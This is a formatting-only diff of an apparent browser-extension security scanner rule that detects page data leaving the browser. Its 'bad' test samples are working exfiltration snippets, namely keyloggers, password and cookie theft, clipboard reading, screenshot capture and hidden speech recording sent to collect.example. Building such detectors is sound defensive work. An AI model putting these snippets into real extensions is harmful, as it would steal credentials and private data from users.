@@ -7,7 +7,14 @@ import { sample } from '../../flows/sample.ts';
 import { defineRule } from '../../rule.ts';
 
 const SEVERITY: Partial<Record<SourceKind, Severity>> = {
-  keys: 'critical', 'form-input': 'high', clipboard: 'high', 'page-cookies': 'high', 'page-content': 'medium', screenshot: 'medium', geolocation: 'low', speech: 'high',
+  keys: 'critical',
+  'form-input': 'high',
+  clipboard: 'high',
+  'page-cookies': 'high',
+  'page-content': 'medium',
+  screenshot: 'medium',
+  geolocation: 'low',
+  speech: 'high',
 };
 
 function weigh(flow: Flow): Weight | undefined {
@@ -17,7 +24,11 @@ function weigh(flow: Flow): Weight | undefined {
   const asked = unit.roles.has('popup') && !unit.roles.has('background');
   const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
   const mild = asked ? milder(severity) : severity;
-  return { severity: flow.checked ? milder(mild) : mild, confidence: flow.stored || !known ? 'medium' : 'high', message: sentence(flow, known ? sink.to : undefined) };
+  return {
+    severity: flow.checked ? milder(mild) : mild,
+    confidence: flow.stored || !known ? 'medium' : 'high',
+    message: sentence(flow, known ? sink.to : undefined),
+  };
 }
 
 export default defineRule({
@@ -29,34 +40,105 @@ export default defineRule({
   applies: 'extension',
   cwe: 'CWE-359',
   why: 'Keys, form fields, the clipboard or the content of pages leave the browser. Passwords, messages and bank pages look the same to such code.',
-  remedy: 'Send page content only when the person asks for it, only what is needed, and never from password or payment fields.',
+  remedy:
+    'Send page content only when the person asks for it, only what is needed, and never from password or payment fields.',
   check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
   examples: {
     bad: [
-      sample({ content: 'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });' }),
-      sample({ content: 'document.forms[0].addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; navigator.sendBeacon("https://collect.example/f", p); });' }),
-      sample({ content: 'let buffer = ""; window.addEventListener("keypress", function (e) { buffer += String.fromCharCode(e.which) + e.key; }); setInterval(function () { chrome.runtime.sendMessage({ k: buffer }); }, 5000);', background: 'chrome.runtime.onMessage.addListener((m) => { fetch("https://collect.example", { method: "POST", body: m.k }); });' }),
+      sample({
+        content: 'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });',
+      }),
+      sample({
+        content:
+          'document.forms[0].addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; navigator.sendBeacon("https://collect.example/f", p); });',
+      }),
+      sample({
+        content:
+          'let buffer = ""; window.addEventListener("keypress", function (e) { buffer += String.fromCharCode(e.which) + e.key; }); setInterval(function () { chrome.runtime.sendMessage({ k: buffer }); }, 5000);',
+        background:
+          'chrome.runtime.onMessage.addListener((m) => { fetch("https://collect.example", { method: "POST", body: m.k }); });',
+      }),
       sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
-      sample({ background: 'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });' }),
-      sample({ content: '$("input").on("change", function () { $.post("https://collect.example/v", { v: $(this).val() }); });' }),
-      sample({ content: 'navigator.clipboard.readText().then((t) => axios.post("https://collect.example/p", { t }));' }),
-      sample({ content: 'const frame = document.createElement("iframe"); frame.src = "https://panel.example/side"; document.body.append(frame); window.addEventListener("message", () => { frame.contentWindow.postMessage({ mail: document.querySelector(".message").innerText }, "*"); });' }),
-      sample({ content: 'const pc = new RTCPeerConnection(); const line = pc.createDataChannel("a"); document.addEventListener("change", (e) => { line.send(e.target.value); });' }),
-      sample({ content: 'setInterval(async () => { const last = [...document.querySelectorAll(".answer")].pop(); await fetch("https://collect.example/a", { method: "POST", body: last.innerText }); }, 5000);' }),
-      sample({ content: 'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(https://collect.example/i.png?" + e.target.value + ")"; });' }),
-      sample({ files: { 'mic.html': '<script src="mic.js"></script>', 'mic.js': 'const R = window.SpeechRecognition || window.webkitSpeechRecognition; const r = new R(); r.onresult = (e) => { const said = [...e.results].map((x) => x[0].transcript).join(" "); navigator.sendBeacon("https://collect.example/h", said); }; r.start();' }, background: 'chrome.tabs.create({ url: "mic.html", active: false });' }),
-      sample({ content: 'cookieStore.addEventListener("change", ({ changed }) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(changed) }); });' }),
-      sample({ files: { 'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>', 'bg.js': 'var sock = new WebSocket("wss://collect.example/c"); function look() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); if (pad.value) sock.send(pad.value); } chrome.windows.onFocusChanged.addListener(look);' }, manifest: { background: { page: 'bg.html' }, manifest_version: 2 } }),
+      sample({
+        background:
+          'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });',
+      }),
+      sample({
+        content: '$("input").on("change", function () { $.post("https://collect.example/v", { v: $(this).val() }); });',
+      }),
+      sample({
+        content: 'navigator.clipboard.readText().then((t) => axios.post("https://collect.example/p", { t }));',
+      }),
+      sample({
+        content:
+          'const frame = document.createElement("iframe"); frame.src = "https://panel.example/side"; document.body.append(frame); window.addEventListener("message", () => { frame.contentWindow.postMessage({ mail: document.querySelector(".message").innerText }, "*"); });',
+      }),
+      sample({
+        content:
+          'const pc = new RTCPeerConnection(); const line = pc.createDataChannel("a"); document.addEventListener("change", (e) => { line.send(e.target.value); });',
+      }),
+      sample({
+        content:
+          'setInterval(async () => { const last = [...document.querySelectorAll(".answer")].pop(); await fetch("https://collect.example/a", { method: "POST", body: last.innerText }); }, 5000);',
+      }),
+      sample({
+        content:
+          'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(https://collect.example/i.png?" + e.target.value + ")"; });',
+      }),
+      sample({
+        files: {
+          'mic.html': '<script src="mic.js"></script>',
+          'mic.js':
+            'const R = window.SpeechRecognition || window.webkitSpeechRecognition; const r = new R(); r.onresult = (e) => { const said = [...e.results].map((x) => x[0].transcript).join(" "); navigator.sendBeacon("https://collect.example/h", said); }; r.start();',
+        },
+        background: 'chrome.tabs.create({ url: "mic.html", active: false });',
+      }),
+      sample({
+        content:
+          'cookieStore.addEventListener("change", ({ changed }) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(changed) }); });',
+      }),
+      sample({
+        files: {
+          'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>',
+          'bg.js':
+            'var sock = new WebSocket("wss://collect.example/c"); function look() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); if (pad.value) sock.send(pad.value); } chrome.windows.onFocusChanged.addListener(look);',
+        },
+        manifest: { background: { page: 'bg.html' }, manifest_version: 2 },
+      }),
     ],
     good: [
-      sample({ files: { 'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>', 'bg.js': 'function clean() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); pad.value = pad.value.trim(); pad.select(); document.execCommand("copy"); } chrome.commands.onCommand.addListener(clean); fetch("https://api.example/ping");' }, manifest: { background: { page: 'bg.html' }, manifest_version: 2 } }),
-      sample({ popup: 'const r = new webkitSpeechRecognition(); r.onresult = (e) => { out.value += e.results[0][0].transcript; }; go.onclick = () => r.start(); fetch("https://api.example/ping");' }),
-      sample({ content: 'const frame = document.createElement("iframe"); frame.src = chrome.runtime.getURL("side.html"); document.body.append(frame); frame.contentWindow.postMessage({ text: document.body.innerText }, "*");' }),
-      sample({ content: 'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(" + e.target.value + ")"; });' }),
-      sample({ content: 'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); fetch("https://api.example/ping"); }); function close() {}' }),
-      sample({ content: 'const n = document.querySelector("input").value.length; fetch("https://api.example/n?" + n);' }),
+      sample({
+        files: {
+          'bg.html': '<textarea id="pad"></textarea><script src="bg.js"></script>',
+          'bg.js':
+            'function clean() { var pad = document.getElementById("pad"); pad.focus(); document.execCommand("paste"); pad.value = pad.value.trim(); pad.select(); document.execCommand("copy"); } chrome.commands.onCommand.addListener(clean); fetch("https://api.example/ping");',
+        },
+        manifest: { background: { page: 'bg.html' }, manifest_version: 2 },
+      }),
+      sample({
+        popup:
+          'const r = new webkitSpeechRecognition(); r.onresult = (e) => { out.value += e.results[0][0].transcript; }; go.onclick = () => r.start(); fetch("https://api.example/ping");',
+      }),
+      sample({
+        content:
+          'const frame = document.createElement("iframe"); frame.src = chrome.runtime.getURL("side.html"); document.body.append(frame); frame.contentWindow.postMessage({ text: document.body.innerText }, "*");',
+      }),
+      sample({
+        content:
+          'document.addEventListener("input", (e) => { document.body.style.backgroundImage = "url(" + e.target.value + ")"; });',
+      }),
+      sample({
+        content:
+          'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); fetch("https://api.example/ping"); }); function close() {}',
+      }),
+      sample({
+        content: 'const n = document.querySelector("input").value.length; fetch("https://api.example/n?" + n);',
+      }),
       sample({ content: 'document.querySelector("input").value = "x"; fetch("https://api.example/x");' }),
-      sample({ background: 'chrome.tabs.captureVisibleTab(null, {}, (png) => { chrome.downloads.download({ url: png, filename: "a.png" }); });' }),
+      sample({
+        background:
+          'chrome.tabs.captureVisibleTab(null, {}, (png) => { chrome.downloads.download({ url: png, filename: "a.png" }); });',
+      }),
     ],
   },
 });
